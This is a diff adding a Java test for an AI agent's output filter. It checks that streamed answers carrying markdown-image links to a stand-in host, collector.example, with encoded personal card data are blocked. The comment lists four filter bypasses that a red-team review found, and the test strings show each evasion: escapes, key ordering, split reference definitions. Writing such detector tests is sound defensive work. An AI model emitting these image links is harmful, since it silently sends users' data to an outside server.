@@ -523,6 +523,33 @@ class AgentPresetTest {
     }
 
     @Test
+    void aStreamJudgesADefinitionCutByAReleaseAndJsonStringsInDocumentOrder() {
+        // found by a red-team review of the JSON reading: (1) a key after the values (the view lists keys last) made an
+        // open image with an escaped '!' look closed; (2) a definition whose label was released and whose destination
+        // was held was never read whole (text and JSON); (3) a key after an unfinished last line made that line look
+        // complete; (4) a definition written as a key was never remembered
+        String d = "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
+        String p = "The quarterly numbers look steady and the team is on track for the launch. ".repeat(70);
+        String def = "[x]: https://collector.example/p.png?d=" + d;
+        for (String answer : List.of(
+                "{\"x)\": \"See \\u0021[c](https://collector.example/p.png?" + "a=1&".repeat(60) + "d=" + d + ") ok\"}",
+                "{\"x)\": \"See !\\u005bc](https://collector.example/p.png?" + "a=1&".repeat(60) + "d=" + d + ") ok\"}",
+                p.substring(0, 150) + "\n[x]: https://collector.example/p.png?d=" + d.repeat(3) + "\n"
+                        + p.substring(0, 100) + " See ![c][x].",
+                "{\"p\": \"" + p.substring(0, 150) + "\\n[x]: https://collector.example/p.png?d=" + d.repeat(3) + "\\n"
+                        + p.substring(0, 100) + " See ![c][x].\"}",
+                "{\"reply\": \"See \\u0021[chart][x] ok\\n\\n" + p.substring(0, 600) + "\\n\\n" + def + "\"}",
+                "{\"" + def + "\": \"" + p.substring(0, 600) + "\", \"b\": \"See ![chart][x].\"}",
+                "{\"" + def + "\": \"" + p.substring(0, 100) + "\", \"b\": \"See ![chart][x].\"}")) {
+            assertAnswerBlockedAsExfiltration(answer);
+            for (int size = 1; size <= 64; size++) {
+                StreamOutcome out = stream(answer, size);
+                assertThat(out.blocked()).as("%s in chunks of %d", answer, size).isNotNull();
+            }
+        }
+    }
+
+    @Test
     void aStreamReleasesReferenceImagesWhoseDefinitionsCarryNothing() {
         // definitions remembered, images held until their definition comes (within 4,096 characters): the answers
         // pass as a whole answer does
